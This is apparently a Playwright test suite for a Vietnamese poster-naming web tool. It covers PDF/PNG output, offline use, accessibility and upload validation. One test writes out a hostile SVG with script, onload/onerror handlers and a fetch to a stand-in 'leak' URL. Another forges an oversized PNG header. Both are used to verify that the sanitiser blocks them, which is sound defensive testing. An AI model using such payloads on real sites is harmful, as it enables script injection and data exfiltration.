import { readFileSync } from "node:fs";
import { AxeBuilder } from "@axe-core/playwright";
import { getDocument } from "pdfjs-dist/legacy/build/pdf.mjs";
import sharp from "sharp";
import { expect, test, type Page } from "playwright/test";

const slug = "ap-phich-noi-voi-con";
const address = `/an-pham/${slug}/`;
const editor = (page: Page) => page.locator("[data-name-editor]");

async function open(page: Page): Promise<void> {
  await page.goto(address);
  await editor(page).locator("summary").click();
  await expect(page.getByLabel("Tên đơn vị", { exact: true })).toBeVisible();
}

async function download(page: Page, button: string): Promise<Buffer> {
  const waiting = page.waitForEvent("download");
  await page.getByRole("button", { name: button }).click();
  const got = await waiting;
  expect(got.suggestedFilename()).toMatch(new RegExp(`^${slug}-ten-don-vi\\.(?:pdf|png)$`, "u"));
  return readFileSync(await got.path());
}

const name = "Trường THCS Hùng Vương, phường Vĩnh Yên, tỉnh Phú Thọ";

for (const width of [360, 1280]) {
  test(`a school writes its name on a poster, offline, at ${width} pixels`, async ({ page, context }) => {
    await page.setViewportSize({ width, height: 800 });
    await open(page);
    await context.setOffline(true);
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await page.getByLabel("Tên đơn vị", { exact: true }).fill(name);

    const pdf = await download(page, "Tải PDF để in");
    const document = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise;
    const { items } = await (await document.getPage(1)).getTextContent();
    const text = items.map((entry) => ("str" in entry ? entry.str : "")).join(" ");
    expect(text.replace(/\s+/gu, " ")).toContain(name);
    expect((await document.getMetadata()).info).toHaveProperty("Title");
    await document.destroy();

    const own = await sharp(await download(page, "Tải ảnh PNG"))
      .raw()
      .toBuffer({ resolveWithObject: true });
    const stock = await sharp(`dist/an-pham/${slug}/${slug}-a4-de-trong.png`)
      .ensureAlpha(1)
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([own.info.width, own.info.height]).toEqual([stock.info.width, stock.info.height]);
    // Only the room of the name differs: the top tenth of the sheet.
    let above = 0;
    let below = 0;
    const rows = own.info.height * 0.1;
    for (let at = 0; at < own.data.length; at += own.info.channels) {
      const pixel = at / own.info.channels;
      const other = pixel * stock.info.channels;
      const differs = [0, 1, 2].some(
        (band) => Math.abs((own.data[at + band] ?? 0) - (stock.data[other + band] ?? 0)) > 6,
      );
      if (!differs) continue;
      if (pixel / own.info.width < rows) above += 1;
      else below += 1;
    }
    expect(above).toBeGreaterThan(1000);
    expect(below).toBe(0);
    expect(requests.filter((url) => !/^(?:blob|data):/u.test(url))).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    );
  });
}

test("a name that is too long is told, and makes no file", async ({ page }) => {
  await open(page);
  await page.getByLabel("Tên đơn vị", { exact: true }).fill(`${name}, `.repeat(8));
  await expect(editor(page).getByRole("status")).toContainText(
    /Tên dài quá, không đủ chỗ\. Bớt khoảng \d+ ký tự\./u,
  );
  await expect(page.getByRole("button", { name: "Tải PDF để in" })).toBeDisabled();
});

test("a sign from the device is drawn; what is in a hostile one does not run", async ({ page }) => {
  await open(page);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.getByLabel("Tên đơn vị", { exact: true }).fill("Trường Hòa Bình");
  const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99999" height="99999" viewBox="0 0 100 100" onload="window.harmed = 1">
    <script>window.harmed = 1; fetch("https://example.org/leak")</script>
    <foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://example.org/pixel.png" onerror="window.harmed = 1"/></body></foreignObject>
    <image href="https://example.org/outside.png" width="10" height="10"/>
    <circle cx="50" cy="50" r="50" fill="#ff0000"/></svg>`;
  await page
    .getByLabel(/^Biểu trưng/u)
    .setInputFiles({ name: "dau.svg", mimeType: "image/svg+xml", buffer: Buffer.from(hostile) });
  await expect(page.getByRole("button", { name: "Bỏ biểu trưng" })).toBeVisible();
  const png = await download(page, "Tải ảnh PNG");
  const { data, info } = await sharp(png)
    .extract({ left: 0, top: 0, width: 240, height: 200 })
    .raw()
    .toBuffer({ resolveWithObject: true });
  let red = 0;
  for (let at = 0; at < data.length; at += info.channels) {
    if ((data[at] ?? 0) > 240 && (data[at + 1] ?? 0) < 40 && (data[at + 2] ?? 0) < 40) red += 1;
  }
  expect(red).toBeGreaterThan(300);
  expect(await page.evaluate(() => "harmed" in window)).toBe(false);
  expect(asked.filter((url) => !/^(?:blob|data):/u.test(url))).toEqual([]);
  expect((await download(page, "Tải PDF để in")).subarray(0, 5).toString()).toBe("%PDF-");
});

test("what is no sign is refused with what to do", async ({ page }) => {
  await open(page);
  const sign = page.getByLabel(/^Biểu trưng/u);
  const status = editor(page).getByRole("status");
  await sign.setInputFiles({ name: "to.png", mimeType: "image/png", buffer: Buffer.alloc(20_000_000) });
  await expect(status).toContainText("Ảnh nặng 20 MB, tối đa 5 MB.");
  await sign.setInputFiles({ name: "bom.png", mimeType: "image/png", buffer: pngHead(60_000, 60_000) });
  await expect(status).toContainText("Ảnh quá lớn hoặc bị hỏng.");
  await sign.setInputFiles({ name: "thu.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.7") });
  await expect(status).toContainText("không phải ảnh");
  await sign.setInputFiles({ name: "hong.webp", mimeType: "image/webp", buffer: Buffer.from("RIFF") });
  await expect(status).toContainText("bị hỏng");
});

/** Signature and IHDR of a PNG that claims a size. */
function pngHead(width: number, height: number): Buffer {
  const head = Buffer.alloc(33);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).copy(head);
  head.write("IHDR", 12, "latin1");
  head.writeUInt32BE(width, 16);
  head.writeUInt32BE(height, 20);
  return head;
}

test("the editor has no fault that axe can find, in light and dark", async ({ page }) => {
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    await open(page);
    await page.getByLabel("Tên đơn vị", { exact: true }).fill("Trường Hòa Bình");
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
  }
});

test.describe("without scripts", () => {
  test.use({ javaScriptEnabled: false });
  test("the sheet with room for a name is there to be written on by hand", async ({ page }) => {
    await page.goto(address);
    await expect(editor(page)).toBeHidden();
    await expect(page.getByRole("link", { name: "tải bản để trống" })).toBeVisible();
  });
});
